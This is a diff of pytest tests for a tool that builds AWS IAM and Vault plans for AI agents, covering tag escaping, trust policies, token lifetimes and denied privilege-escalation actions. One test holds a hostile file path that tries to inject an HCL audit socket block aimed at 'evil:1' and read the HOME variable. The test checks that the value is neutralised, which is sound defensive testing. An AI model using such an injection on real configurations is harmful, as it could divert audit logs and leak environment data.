@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import json
 import random
+import re
 from pathlib import Path
 
 import pytest
 
 from agentiam.environment.load import load_environment
-from agentiam.plan.build import build_plan, plan_json
+from agentiam.plan.build import agent_resources, build_plan, plan_json
+from agentiam.plan import names
 from agentiam.plan.names import shard_of
 from agentiam.iam.risk import boundary_denied_actions
 from agentiam.spec.validate import LoadedSpec, load_spec_bytes
@@ -97,6 +99,57 @@ def test_role_trusts_only_the_secrets_engine_and_requires_the_agent_session_tag(
     assert agent.aws.boundary_policy_arn.endswith(":policy/agentiam/prod/agentiam-prod-boundary-data-retrieval")
     assert agent.vault.aws_secret_role.session_tags == {"agentiam-agent": "invoice-reader",
                                                          "agentiam-environment": "prod"}
+
+
+def test_without_session_tags_the_role_trusts_the_engine_with_no_condition_it_could_not_meet(dev):
+    # dev's server is OpenBao: its AWS plugin sends no session tags, so a trust policy requiring them would refuse
+    # every credential read; and no Vault sets a source identity.
+    agent = build_plan([reader(extra=AWS_READ)], dev).agent("invoice-reader")
+    assert agent.aws.trust_policy["Statement"] == [
+        {"Sid": "VaultAwsSecretsEngineAssumes", "Effect": "Allow",
+         "Principal": {"AWS": "arn:aws:iam::111111111111:role/vault-aws-secrets-engine"}, "Action": "sts:AssumeRole"}]
+    assert agent.vault.aws_secret_role.session_tags == {}
+
+
+@pytest.mark.parametrize(("text", "value"), [
+    ("jane.doe@example.com", "jane.doe@example.com"),
+    ("jane%ops@example.com", "jane=25ops@example.com"),  # `%` would fail CreateRole
+    ("a=b", "a=3Db"),  # the escape character itself, so the value reads back unambiguously
+    ("Zoë Ünal", "Zoë Ünal"),  # letters and spaces of any script are allowed
+    ("tab\there", "tab=09here"),
+    ("x" * 256, "x" * 256),
+])
+def test_iam_tag_values_carry_only_what_iam_accepts(text, value):
+    assert names.iam_tag_value(text) == value
+
+
+def test_an_iam_tag_value_too_long_once_escaped_is_cut_with_a_digest():
+    long = "%" * 100 + "@example.com"
+    value = names.iam_tag_value(long)
+    assert len(value) <= names.IAM_TAG_VALUE_MAX
+    assert value.startswith("=25=25") and re.fullmatch(r"(=25)+=[0-9a-f]{16}", value)
+    assert names.iam_tag_value("%" * 101 + "@example.com") != value
+
+
+def test_a_sponsor_with_a_percent_sign_is_tagged_iam_safe_and_kept_verbatim_on_vault(dev):
+    loaded = spec(BASE.format(name="invoice-reader", team="billing", function="data-retrieval").replace(
+        "owner@example.com", "ops%billing@example.com"), "agent_specs/invoice-reader.yaml")
+    agent = build_plan([loaded], dev).agent("invoice-reader")
+    assert agent.tags["agentiam:sponsor"] == "ops=25billing@example.com"
+    assert agent.vault.entity.metadata["sponsor"] == "ops%billing@example.com"
+
+
+def test_the_vault_token_lifetime_grows_with_the_stack_in_half_hours_up_to_a_day(dev):
+    small = build_plan([reader()], dev).deploy
+    assert small.vault_token_ttl == 1800 and small.resources > 0
+    fleet = [reader(name=f"reader-{i:04d}") for i in range(400)]
+    shard = dev.model_copy(update={"selection": dev.selection.model_copy(update={"shared_resources": False})})
+    plan = build_plan(fleet, shard)
+    assert plan.deploy.resources == sum(agent_resources(a) for a in plan.agents)  # a shard owns no platform
+    assert plan.deploy.vault_token_ttl >= 1200 + 3 * plan.deploy.resources
+    assert plan.deploy.vault_token_ttl % 1800 == 0
+    huge = [reader(name=f"reader-{i:05d}") for i in range(4000)]
+    assert build_plan(huge, dev).deploy.vault_token_ttl == 86400  # never longer than a day
 
 
 def test_token_lifetimes_follow_spec_and_overrides_and_never_pass_a_day(dev, prod):
@@ -287,3 +340,15 @@ def test_boundary_does_not_deny_ordinary_parts_of_multi_step_escalation_methods(
         assert ordinary not in denied
     for one_step in ("lambda:updatefunctioncode", "ec2:getpassworddata", "sts:*"):
         assert one_step in denied
+
+
+def test_the_audit_config_block_keeps_any_file_path_one_inert_hcl_string(dev):
+    hostile = '/var/log/a" }\naudit "socket" "x" { options { address = "evil:1" } } #${env("HOME")}'
+    audit = dev.vault.audit.model_copy(update={"file_path": hostile})
+    env = dev.model_copy(update={"vault": dev.vault.model_copy(update={"audit": audit})})
+    block = build_plan([reader()], env).platform.log_routing.audit.config_block
+    (line,) = [line for line in block.splitlines() if "file_path" in line]
+    assert line == '    file_path = "/var/log/a\\" }\\\\naudit \\"socket\\" \\"x\\" { options { address = \\"evil:1\\" } } ' \
+                   '#$${env(\\"HOME\\")}"'
+    assert [l for l in block.splitlines() if l.startswith("audit ")] == ['audit "file" "agentiam-file" {']
+    assert len(block.splitlines()) == 8
